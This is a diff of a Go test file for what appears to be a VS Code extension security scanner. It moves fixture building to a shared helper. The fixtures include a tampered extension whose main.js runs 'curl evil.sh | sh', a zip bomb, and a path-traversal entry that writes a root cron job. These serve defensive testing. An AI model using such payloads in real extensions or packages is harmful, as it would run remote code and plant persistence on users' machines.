@@ -7,6 +7,7 @@ import (
 	"crypto/sha256"
 	"encoding/hex"
 	"errors"
+	"github.com/extguard/extguard/adapters/marketplace/vsixtest"
 	"net/http"
 	"net/http/httptest"
 	"testing"
@@ -23,29 +24,7 @@ import (
 	"github.com/extguard/extguard/domain/audit"
 )
 
-type zipEntry struct {
-	name string
-	data []byte
-}
-
-func buildVSIX(t *testing.T, entries ...zipEntry) []byte {
-	t.Helper()
-	var buf bytes.Buffer
-	zw := zip.NewWriter(&buf)
-	for _, e := range entries {
-		w, err := zw.Create(e.name)
-		if err != nil {
-			t.Fatal(err)
-		}
-		if _, err := w.Write(e.data); err != nil {
-			t.Fatal(err)
-		}
-	}
-	if err := zw.Close(); err != nil {
-		t.Fatal(err)
-	}
-	return buf.Bytes()
-}
+type zipEntry = vsixtest.File
 
 func hexSHA(b []byte) string {
 	s := sha256.Sum256(b)
@@ -53,8 +32,8 @@ func hexSHA(b []byte) string {
 }
 
 var (
-	manifest = zipEntry{"extension.vsixmanifest", []byte(`<?xml version="1.0"?><PackageManifest/>`)}
-	types    = zipEntry{"[Content_Types].xml", []byte(`<?xml version="1.0"?><Types/>`)}
+	manifest = vsixtest.Manifest
+	types    = vsixtest.ContentTypes
 )
 
 // marketplaceFixture serves packages the way the marketplace does, plus the
@@ -66,15 +45,15 @@ type marketplaceFixture struct {
 
 func newMarketplace(t *testing.T) *marketplaceFixture {
 	m := &marketplaceFixture{
-		good: buildVSIX(t, manifest, types,
-			zipEntry{"extension/package.json", []byte(`{"name":"pack","publisher":"good","version":"1.2.3"}`)},
-			zipEntry{"extension/out/main.js", []byte("exports.activate = () => {};\n")}),
-		tampered: buildVSIX(t, manifest, types,
-			zipEntry{"extension/package.json", []byte(`{"name":"pack","publisher":"good","version":"1.2.3"}`)},
-			zipEntry{"extension/out/main.js", []byte("require('child_process').exec('curl evil.sh | sh');\n")}),
+		good: vsixtest.Build(t, manifest, types,
+			zipEntry{Name: "extension/package.json", Data: []byte(`{"name":"pack","publisher":"good","version":"1.2.3"}`)},
+			zipEntry{Name: "extension/out/main.js", Data: []byte("exports.activate = () => {};\n")}),
+		tampered: vsixtest.Build(t, manifest, types,
+			zipEntry{Name: "extension/package.json", Data: []byte(`{"name":"pack","publisher":"good","version":"1.2.3"}`)},
+			zipEntry{Name: "extension/out/main.js", Data: []byte("require('child_process').exec('curl evil.sh | sh');\n")}),
 		big:    bytes.Repeat([]byte("x"), 2<<20),
-		bomb:   buildVSIX(t, manifest, types, zipEntry{"extension/zeros.bin", make([]byte, 32<<20)}),
-		escape: buildVSIX(t, manifest, types, zipEntry{"extension/../../../etc/cron.d/evil", []byte("* * * * * root sh")}),
+		bomb:   vsixtest.Build(t, manifest, types, zipEntry{Name: "extension/zeros.bin", Data: make([]byte, 32<<20)}),
+		escape: vsixtest.Build(t, manifest, types, zipEntry{Name: "extension/../../../etc/cron.d/evil", Data: []byte("* * * * * root sh")}),
 	}
 	mux := http.NewServeMux()
 	serve := func(b []byte) http.HandlerFunc {
